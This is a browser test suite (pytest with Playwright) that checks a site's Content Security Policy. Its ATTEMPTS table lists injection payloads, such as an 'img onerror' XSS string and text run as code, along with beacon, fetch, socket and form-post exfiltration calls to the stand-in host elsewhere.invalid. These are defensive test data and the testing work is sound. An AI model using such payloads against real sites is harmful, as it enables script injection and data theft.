"""The pages load, run and reach only what is their own; a test fails by anything else."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from hupai_build import head
from tests.browser.boxes import assert_no_sideways_scroll
from tests.browser.player import LOCALES, Player
from tests.browser.support import PHONE, OpenPage, Shot, Site, Watch

ELSEWHERE = "http://elsewhere.invalid"

ATTEMPTS = {
    "a script of another site": ("trusted-types", "create('script', { src: '%s/a.js' })"),
    "a script that a text names": ("trusted-types", "create('script', { src: 'embed/v1/learn.js' })"),
    "a script as text": ("trusted-types", "create('script', { text: 'window.__pwned = 1' })"),
    "markup from text": ("trusted-types", "document.body.innerHTML = '<img src=x onerror=\"window.__pwned = 1\">'"),
    "a handler as text": ("trusted-types", "create('b', {}).setAttribute('onclick', 'window.__pwned = 1')"),
    "text run as code": ("trusted-types", "setTimeout('window.__pwned = 1')"),
    "a worker by its address": ("trusted-types", "new Worker('assets/worker.js', { type: 'module' })"),
    "a policy of one's own": ("trusted-types", "trustedTypes.createPolicy('mine', {})"),
    "the page's policy again": ("trusted-types", "trustedTypes.createPolicy('hupai', { createScriptURL: all => all })"),
    "a style as text": ("style-src-attr", "create('b', {}).setAttribute('style', 'color: red')"),
    "styles of another site": ("style-src-elem", "create('link', { rel: 'stylesheet', href: '%s/a.css' })"),
    "a picture of another site": ("img-src", "create('img', { src: '%s/a.png' })"),
    "a sound": ("media-src", "create('audio', { src: '%s/a.mp3' })"),
    "a question to another site": ("connect-src", "fetch('%s/').catch(() => 0)"),
    "a beacon": ("connect-src", "navigator.sendBeacon('%s/', 'secret')"),
    "a socket": ("connect-src", "new WebSocket('ws://elsewhere.invalid/')"),
    "a frame": ("frame-src", "create('iframe', { src: '%s/' })"),
    "a plugin": ("trusted-types", "create('object', { data: '%s/a.swf' })"),
    "another base": ("base-uri", "create('base', { href: '%s/' })"),
    "a form sent away": ("form-action", "create('form', { action: '%s/', method: 'post' }).submit()"),
}
"""What is tried, the directive that forbids it, and how."""

TRY = """(attempt) => {
  const create = (name, fields) => Object.assign(document.body.appendChild(document.createElement(name)), fields);
  try { %s; } catch (error) { return String(error); }
}"""


FORBIDDEN = """self.forbidden = [];
addEventListener("securitypolicyviolation", event => self.forbidden.push([event.effectiveDirective, event.sample]));
"""
"""At the beginning of a worker: notes what the policy forbids it."""


@pytest.fixture
def watched(browser: Browser, site: Site) -> Iterator[tuple[Page, Watch]]:
    """Return a watched page and what was noticed; here that does not fail the test."""
    context = browser.new_context()
    watch = Watch(site.origin)
    watch.watch_context(context)
    yield context.new_page(), watch
    context.close()


def test_what_the_policy_forbids_is_refused_and_noticed(watched: tuple[Page, Watch], site: Site) -> None:
    """Each attempt would fail a test; nothing of it runs, and no other host is asked."""
    page, watch = watched
    page.goto(urljoin(site.url, "learn.html"))
    expect(page.locator("hp-lessons h1")).to_be_visible()
    assert watch.problems == []
    for name, (directive, attempt) in ATTEMPTS.items():
        noticed = re.compile(f"policy violated: (require-)?{directive}")
        with page.expect_console_message(lambda message, noticed=noticed: noticed.search(message.text)):
            page.evaluate(TRY % attempt.replace("%s", ELSEWHERE))
        assert any(noticed.search(problem) for problem in watch.problems), name
        watch.problems.clear()
    assert page.evaluate("window.__pwned") is None


def test_a_request_that_leaves_is_noticed_from_a_worker_too(watched: tuple[Page, Watch], site: Site) -> None:
    """The page's policy does not bind its worker, whose file comes without headers, so its requests are watched."""
    page, watch = watched
    with page.expect_worker() as started:
        page.goto(site.url)
    started.value.evaluate("address => fetch(address).catch(() => 0)", f"{ELSEWHERE}/from-the-worker")
    assert f"request left the origin: {ELSEWHERE}/from-the-worker" in watch.problems


def test_all_pages_are_quiet(open_page: OpenPage, engine_site: Site, dist: Path, shot: Shot) -> None:
    """Every page opens without an error, a violation, or a request to another host."""
    pages = sorted(file.relative_to(dist).as_posix() for file in dist.rglob("*.html"))
    assert {"licences/index.html", "404.html", "index.html"} <= set(pages)
    page = open_page(PHONE, path=pages[0])
    for path in pages:
        page.goto(urljoin(engine_site.url, path))
        expect(page.locator("h1").first).to_be_visible()
    page.goto(urljoin(engine_site.url, "licences/"))
    assert_no_sideways_scroll(page)
    shot(page, "licences")


@pytest.mark.long
def test_python_lives_under_the_pages_policy(open_page: OpenPage) -> None:
    """A worker bound by the policy, as in Firefox, starts Python and micropip: no text is run as code."""
    policy = head.written(head.PYTHON)

    def bound(route: Route) -> None:
        answer = route.fetch()
        headers = {**answer.headers, "content-security-policy": policy}
        route.fulfill(response=answer, headers=headers, body=FORBIDDEN + answer.text())

    page = open_page(PHONE, pyodide=True, lang=LOCALES["en"], path="learn.html")
    page.route("**/assets/worker.js", bound)
    page.goto(page.url.replace("learn.html", "?boot=plain"))
    player = Player(page, "en")
    player.hurry()
    player.start(deal=3)
    player.reach("discard")
    assert page.workers[0].evaluate("self.forbidden") == []
